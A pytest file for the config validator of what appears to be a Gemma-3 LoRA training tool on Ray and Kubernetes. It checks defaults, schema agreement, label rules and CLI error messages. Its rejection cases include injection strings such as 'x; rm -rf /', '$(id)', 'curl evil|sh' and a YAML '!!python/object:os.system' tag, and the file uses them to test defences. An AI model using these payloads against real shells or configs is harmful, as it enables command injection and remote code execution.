"""RunConfig: defaults reproduce the reference run, bad input is rejected field by field, schema round-trips."""

import json
from pathlib import Path

import jsonschema
import pytest
from pydantic import ValidationError

from functions.cli import main as cli
from functions.core.config import ConfigError, RunConfig
from functions.core.config_file import MAX_CONFIG_BYTES, config_format, json_schema, parse_config

ROOT = Path(__file__).resolve().parents[2]
SCHEMA_FILE = ROOT / "schemas" / "run-config.schema.json"


def test_defaults_are_gpu_shaped():
    """What a B200/H200 user wants (docs/performance.md): bf16 LoRA, batch 4 x 1 (the recipe's effective
    batch), no gradient checkpointing, no full copies of the embeddings, sdpa, loss on the answer only."""
    cfg = RunConfig()
    assert cfg.model.id == "google/gemma-3-4b-it"
    assert (cfg.model.quantization, cfg.model.dtype, cfg.model.attn_implementation) == ("none", "bfloat16", "sdpa")
    assert (cfg.lora.r, cfg.lora.alpha, cfg.lora.dropout, cfg.lora.target_modules) == (16, 16, 0.05, "all-linear")
    assert cfg.lora.modules_to_save == []
    t = cfg.training
    assert (t.epochs, t.per_device_batch_size, t.gradient_accumulation_steps, t.gradient_checkpointing) == (
        3,
        4,
        1,
        False,
    )
    assert (t.learning_rate, t.lr_scheduler, t.warmup_ratio, t.max_grad_norm) == (2e-4, "constant", 0.03, 0.3)
    assert (t.optim, t.logging_steps, t.save_strategy, t.assistant_only_loss) == (
        "adamw_torch_fused",
        10,
        "epoch",
        True,
    )
    assert (cfg.scaling.nodes, cfg.scaling.gpus_per_node, cfg.scaling.accelerator) == (2, 8, "B200")
    assert cfg.scaling.num_workers == 16 and cfg.scaling.use_gpu
    assert cfg.cluster.ray_cluster == "gemma3-tuning"


def test_the_reference_example_is_the_recipe_exactly():
    cfg = parse_config((ROOT / "examples" / "reference.json").read_bytes())
    assert (cfg.model.quantization, cfg.model.double_quant, cfg.model.attn_implementation) == ("nf4", True, "eager")
    assert cfg.lora.modules_to_save == ["lm_head", "embed_tokens"]
    t = cfg.training
    assert (t.per_device_batch_size, t.gradient_accumulation_steps, t.gradient_checkpointing) == (1, 4, True)
    assert not t.assistant_only_loss and t.optim == "adamw_torch_fused"


@pytest.mark.parametrize("example", sorted((ROOT / "examples").glob("*.json")), ids=lambda p: p.name)
def test_examples_validate(example):
    parse_config(example.read_bytes())
    jsonschema.validate(json.loads(example.read_text()), json_schema())


BAD = {
    "unknown top-level key": ({"nmae": "x"}, "nmae: unknown field; did you mean name?"),
    "unknown nested key": ({"lora": {"rank": 8}}, "lora.rank: unknown field"),
    "wrong type": ({"training": {"epochs": "three"}}, "training.epochs"),
    "negative": ({"lora": {"r": -1}}, "lora.r: Input should be greater than or equal to 1"),
    "name injection": ({"name": "x; rm -rf /"}, "name: String should match pattern"),
    "model injection": ({"model": {"id": "google/gemma$(id)"}}, "model.id: String should match pattern"),
    "image injection": ({"cluster": {"worker_image": "ray:latest && curl evil"}}, "cluster.worker_image"),
    "pip injection": ({"cluster": {"pip": ["torch; curl evil|sh"]}}, "cluster.pip.0"),
    "pip url": ({"cluster": {"pip": ["git+https://evil/x"]}}, "cluster.pip.0"),
    "label injection": ({"labels": {"team": "a b"}}, "labels.team"),
    "storage not gs": ({"storage_path": "s3://bucket/x"}, "storage_path"),
    "oversized name": ({"name": "a" * 41}, "name: String should have at most 40 characters"),
    "oversized prompt": ({"prompts": {"system": "x" * 4001}}, "prompts.system"),
    "control chars in prompt": ({"prompts": {"system": "hi\x1b[2J"}}, "prompts.system"),
    "unknown placeholder": ({"prompts": {"user": "describe {product} {price}"}}, "unknown placeholders ['price']"),
    "too many nodes": ({"scaling": {"nodes": 65}}, "scaling.nodes"),
    "accelerator": ({"scaling": {"accelerator": "TPU"}}, "scaling.accelerator"),
    "steps without save_steps": ({"training": {"save_strategy": "steps"}}, "needs save_steps"),
    "quantized real model on cpu": ({"model": {"quantization": "nf4"}, "scaling": {"gpus_per_node": 0}}, "needs GPUs"),
    "bad quantity": (
        {"cluster": {"head": {"cpu": "24 cores", "memory": "1Gi", "ephemeral_storage": "1Gi"}}},
        "cluster.head.cpu",
    ),
}


@pytest.mark.parametrize("raw,expected", BAD.values(), ids=BAD.keys())
def test_bad_configs_are_rejected_with_the_field(raw, expected):
    with pytest.raises(ConfigError) as err:
        parse_config(json.dumps(raw))
    assert any(expected in line for line in err.value.errors), err.value.errors
    # The exported schema rejects the same documents (schema and model agree), except cross-field checks.
    if "needs" not in expected and "placeholders" not in expected:
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(raw, json_schema())


@pytest.mark.parametrize(
    "raw,expected",
    [
        (b"{not json", "not valid JSON"),
        (b"[1, 2]", "config must be a JSON object"),
        (b"\xff\xfe", "not valid JSON"),
        (b" " * (MAX_CONFIG_BYTES + 1), f"the limit is {MAX_CONFIG_BYTES}"),
    ],
)
def test_malformed_documents(raw, expected):
    with pytest.raises(ConfigError, match=expected):
        parse_config(raw)


def test_several_errors_are_all_reported():
    with pytest.raises(ConfigError) as err:
        parse_config({"name": "BAD", "lora": {"r": 0}, "extra": 1})
    assert len(err.value.errors) == 3


def test_committed_schema_is_current():
    assert json.loads(SCHEMA_FILE.read_text()) == json_schema(), "run: raytune schema -o schemas/run-config.schema.json"


def test_schema_round_trip():
    cfg = parse_config((ROOT / "examples" / "reference.json").read_bytes())
    dumped = json.loads(cfg.model_dump_json())
    jsonschema.validate(dumped, json_schema())
    assert parse_config(dumped) == cfg


def test_validate_command_reports_each_bad_field(tmp_path, capsys):
    path = tmp_path / "bad.json"
    path.write_text(json.dumps({"name": "Bad Name", "training": {"epochs": 0}}))
    assert cli(["validate", str(path)]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith(f"error: {path}: name: String should match pattern")  # every error names its file
    assert err[1].startswith(f"error: {path}: training.epochs: Input should be greater than 0")
    assert cli(["validate", str(ROOT / "examples" / "reference.json")]) == 0
    assert "google/gemma-3-4b-it on 2 x 8 B200 (16 Ray Train workers), 3 epochs" in capsys.readouterr().out


def test_committed_config_reference_is_current():
    from functions.cli.reference import markdown

    committed = (ROOT / "docs" / "config-reference.md").read_text()
    assert committed == markdown(json_schema()), "run: raytune schema --markdown -o docs/config-reference.md"
    assert "| integer | `1024` | >= 64; <= 131072 |" in committed
    assert "| `training.max_length` | Tokens per row at most" in committed
    assert (
        '| `cluster.head.memory` | Memory request and limit (a Kubernetes quantity). | string | `"64Gi"` |' in committed
    )


def test_every_config_field_says_what_it_is():
    """A field added without its docstring has no description in the schema, the reference or editors' hints."""
    schema = json_schema()
    models = [schema, *schema["$defs"].values()]
    undescribed = [
        f"{model.get('title', 'RunConfig')}.{name}"
        for model in models
        for name, node in model.get("properties", {}).items()
        if len(node.get("description", "")) < 10
    ]
    assert not undescribed, f"give these fields a docstring in functions/core/config.py: {undescribed}"


def test_main_py_is_the_cli_too():
    import subprocess
    import sys

    out = subprocess.run(
        [sys.executable, "main.py", "validate", "examples/quickstart.json"], cwd=ROOT, capture_output=True, text=True
    )
    assert out.returncode == 0 and out.stdout.startswith("ok: examples/quickstart.json: tiny://gemma3 on 2 x CPU")


def test_yaml_configs_parse_like_json():
    from functions.core.config_file import config_format

    text = "name: shop\nscaling:\n  nodes: 1\n  gpus_per_node: 8\ntraining:\n  epochs: 1\n"
    assert parse_config(text, "yaml") == parse_config(
        '{"name": "shop", "scaling": {"nodes": 1, "gpus_per_node": 8}, "training": {"epochs": 1}}'
    )
    assert config_format("configs/a.YML") == "yaml" and config_format("configs/a.json") == "json"


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("a: &x [1]\nb: *x\n", "aliases are not accepted"),
        ("- just\n- a list\n", "must be a YAML object"),
        ("name: [unclosed\n", "not valid YAML"),
        ("!!python/object:os.system {}\n", "not valid YAML"),
    ],
)
def test_hostile_or_broken_yaml_is_a_config_error(text, error):
    with pytest.raises(ConfigError) as err:
        parse_config(text, "yaml")
    assert error in err.value.errors[0]


@pytest.mark.parametrize(
    ("section", "value", "hint"),
    [
        ("model", "tiny://llama", "the only one is 'tiny://gemma3'"),
        ("dataset", "tiny://cats", "the only one is 'tiny://products'"),
        ("dataset", "data/products.parquet", "looks like a relative path"),
        ("dataset", "../products", "looks like a relative path"),
    ],
)
def test_validate_hints_for_usual_slips(section, value, hint):
    with pytest.raises(ConfigError) as err:
        parse_config({section: {"id": value}})
    assert hint in err.value.errors[0] and err.value.errors[0].startswith(f"{section}.id")


def test_cli_errors_name_the_file(tmp_path, capsys):
    bad = tmp_path / "bad.yaml"
    bad.write_text("dataset: {id: data/x.parquet}\n")
    assert cli(["validate", str(bad)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {bad}: dataset.id")
    assert cli(["validate", str(tmp_path / "nope.json")]) == 2
    assert f"{tmp_path / 'nope.json'}" in capsys.readouterr().err


def test_render_takes_the_bucket_either_way(capsys):
    for bucket in ("my-bucket", "gs://my-bucket", "gs://my-bucket/"):
        assert cli(["render", str(ROOT / "examples/reference.json"), "--bucket", bucket]) == 0
        assert "gs://my-bucket/checkpoints" in capsys.readouterr().out
    assert cli(["render", str(ROOT / "examples/reference.json"), "--bucket", "gs://Bad_Bucket"]) == 2


@pytest.mark.parametrize(
    ("key", "ok"),
    [
        ("team", True),
        ("a" * 63, True),
        ("a" * 64, False),  # Kubernetes would refuse the RayJob: REJECTED here instead
        ("example.com/" + "n" * 63, True),
        ("example.com/" + "n" * 64, False),
        ("x" * 254 + "/name", False),
    ],
)
def test_label_keys_follow_kubernetes_rules(key, ok):
    if ok:
        parse_config({"labels": {key: "v"}})
    else:
        with pytest.raises(ConfigError, match="at most"):
            parse_config({"labels": {key: "v"}})


# apimachinery's own cases (k8s.io/apimachinery/pkg/util/validation/validation_test.go, TestIsQualifiedName),
# and prefixes that are not DNS-1123 subdomains (the API server answers 422 for each).
APIMACHINERY_GOOD = [
    "simple",
    "now-with-dashes",
    "1-starts-with-num",
    "1234",
    "simple/simple",
    "now-with-dashes/simple",
    "now-with-dashes/now-with-dashes",
    "now.with.dots/simple",
    "now-with.dashes-and.dots/simple",
    "1-num.2-num/3-num",
    "1234/5678",
    "1.2.3.4/5678",
    "Uppercase_Is_OK_123",
    "example.com/Uppercase_Is_OK_123",
    "requests.storage-foo",
    "a" * 63,
    "a" * 253 + "/" + "b" * 63,
]
APIMACHINERY_BAD = [
    "nospecialchars%^=@",
    "cantendwithadash-",
    "-cantstartwithadash-",
    "only/one/slash",
    "Example.com/abc",
    "example_com/abc",
    "example.com/",
    "/simple",
    "a" * 64,
    "a" * 254 + "/abc",
    "a..b/name",
    "a.-b/name",
    "a-.b/name",
    ".a/name",
]


@pytest.mark.parametrize("key", APIMACHINERY_GOOD)
def test_label_keys_kubernetes_accepts(key):
    parse_config({"labels": {key: "v"}})


@pytest.mark.parametrize("key", APIMACHINERY_BAD)
def test_label_keys_kubernetes_refuses_are_rejected_at_validation(key):
    with pytest.raises(ConfigError, match="labels"):
        parse_config({"labels": {key: "v"}})


@pytest.mark.parametrize("example", sorted((ROOT / "examples").glob("*.*")), ids=lambda p: p.name)
def test_every_example_is_a_valid_config(example):
    parse_config(example.read_bytes(), config_format(example.name))


def test_validate_flags_the_examples_placeholders_and_missing_local_paths(tmp_path, capsys):
    """Issue 23: examples/cloud.yaml validated as is, and a dataset path that does not exist passed validate."""
    example = str(ROOT / "examples" / "cloud.yaml")
    assert cli(["validate", example]) == 0  # valid, and flagged
    err = capsys.readouterr().err
    assert "warning: " in err and "'my-project' is a placeholder of the example" in err
    assert "cloud.yaml:" in err and "my-a4-reservation" not in err  # the line to edit; the reservation is Terraform's
    assert cli(["submit", example]) == 2  # refused before anything is uploaded (no deployment needed to say so)
    assert "edit it first (nothing was uploaded)" in capsys.readouterr().err
    edited = tmp_path / "mine.yaml"
    text = (ROOT / "examples" / "cloud.yaml").read_text()
    edited.write_text(text.replace("my-project", "team-project-1"))
    assert cli(["validate", str(edited)]) == 0
    assert "placeholder" not in capsys.readouterr().err
    missing = tmp_path / "missing.json"
    missing.write_text(json.dumps({"dataset": {"id": str(tmp_path / "nowhere.parquet")}}))
    assert cli(["validate", str(missing)]) == 2
    assert f"dataset.id {tmp_path / 'nowhere.parquet'} does not exist on this machine" in capsys.readouterr().err


@pytest.mark.parametrize(
    "accelerator, gpus, shapes",
    [
        ("B200", 4, "8 (a4-highgpu-8g)"),
        ("H200", 2, "8 (a3-ultragpu-8g)"),
        ("H100", 3, "1 (a3-highgpu-1g), 2 (a3-highgpu-2g), 4 (a3-highgpu-4g), 8 (a3-highgpu-8g)"),
        ("L4", 16, "1 (g2-standard-4), 2 (g2-standard-24), 4 (g2-standard-48), 8 (g2-standard-96)"),
    ],
)
def test_a_gpu_node_no_machine_type_has_is_rejected_naming_the_shapes_that_exist(accelerator, gpus, shapes):
    with pytest.raises(ValidationError) as err:
        RunConfig.model_validate({"scaling": {"accelerator": accelerator, "gpus_per_node": gpus}})
    assert f"no Compute Engine machine type has {gpus} x {accelerator}" in str(err.value)
    assert shapes in str(err.value)


def test_every_accelerator_the_schema_accepts_has_a_machine_type_and_the_defaults_are_one():
    from typing import get_args

    from functions.core.config import GKE_ACCELERATORS, Accelerator
    from functions.core.gpu_shapes import MACHINE_TYPES, counts

    for accelerator in get_args(Accelerator):
        assert counts(accelerator) and accelerator in GKE_ACCELERATORS, accelerator
        for n in counts(accelerator):
            RunConfig.model_validate({"scaling": {"accelerator": accelerator, "gpus_per_node": n}})
    scaling = RunConfig().scaling
    assert MACHINE_TYPES[(scaling.accelerator, scaling.gpus_per_node)] == "a4-highgpu-8g"
    RunConfig.model_validate({"scaling": {"accelerator": "B200", "gpus_per_node": 0}})  # a CPU run has no shape


def test_fields_are_overridden_on_the_command_line_typed_by_the_schema(capsys):
    """Issue 40: `--set training.epochs=1 --set scaling.nodes=1`, as users of the anchors expect."""
    from functions.cli import main as cli

    quickstart = str(ROOT / "functions" / "local" / "quickstart.json")
    assert cli(["validate", quickstart, "--set", "training.epochs=1", "--set", "scaling.nodes=1"]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"ok: {quickstart} (--set training.epochs=1 scaling.nodes=1): ") and ", 1 epoch" in out
    assert "on 1 x CPU" in out
    assert (
        cli(["validate", quickstart, "--set", "training.learning_rate=2e-4", "--set", "lora.target_modules=[q_proj]"])
        == 0
    )
    capsys.readouterr()
    for bad, said in (
        ("training.epochs=-1", "training.epochs: Input should be greater than 0"),
        ("training.epoch=1", "training.epoch: unknown field; did you mean training.epochs?"),
        ("training", "--set 'training': use FIELD=VALUE"),
        ("name.x=1", "--set 'name.x=1': name is not a section"),
    ):
        assert cli(["validate", quickstart, "--set", bad]) == 2, bad
        assert said in capsys.readouterr().err, bad
    assert cli(["render", quickstart, "--bucket", "my-bucket", "--set", "scaling.nodes=1"]) == 0
    assert "replicas: 1" in capsys.readouterr().out


def test_a_section_set_on_the_command_line_adds_to_the_files(tmp_path):
    """Issue 53: `--set dataset={...}` replaced the whole section, dropping what the file set (eval_fraction)."""
    quickstart = json.loads((ROOT / "examples" / "quickstart.json").read_text())
    from functions.cli.overrides import overridden

    config = tmp_path / "c.json"
    config.write_text(json.dumps({**quickstart, "dataset": {**quickstart["dataset"], "eval_fraction": 0.25}}))
    written = json.loads(Path(overridden(str(config), ['dataset={"max_samples": 16}'])).read_text())
    assert written["dataset"] == {**quickstart["dataset"], "eval_fraction": 0.25, "max_samples": 16}
    replaced = json.loads(Path(overridden(str(config), ["dataset.max_samples=8"])).read_text())
    assert replaced["dataset"]["eval_fraction"] == 0.25 and replaced["dataset"]["max_samples"] == 8


@pytest.mark.parametrize(
    ("document", "fmt", "said"),
    [
        ('{"name": "dup", "name": "dup2"}', "json", "not valid JSON: the key 'name' is given twice in one object"),
        (
            "name: a\nname: b\n",
            "yaml",
            "not valid YAML: the key 'name' is given twice in one mapping (line 2, column 1)",
        ),
        ("name: x\ntraining:\n  lr: [\n", "yaml", "(line 4, column 1)"),
        ('{"name": "x",\n "training": {]}', "json", "line 2 column 15"),
        ("training:\n  epoch: 1\n", "yaml", "training.epoch: unknown field; did you mean training.epochs?"),
        ("scaling:\n  capacity:\n    - kidn: spot\n", "yaml", "did you mean scaling.capacity.0.kind?"),
        ("cluster:\n  zzzzzz: 1\n", "yaml", "cluster.zzzzzz: unknown field"),
    ],
)
def test_input_errors_say_where_and_what_was_meant(document, fmt, said):
    """A key given twice is refused in JSON and YAML alike, a syntax error has its line and column, and a misspelt
    field says which one was meant (issue 67)."""
    with pytest.raises(ConfigError) as raised:
        parse_config(document, fmt)
    assert any(said in line for line in raised.value.errors), raised.value.errors
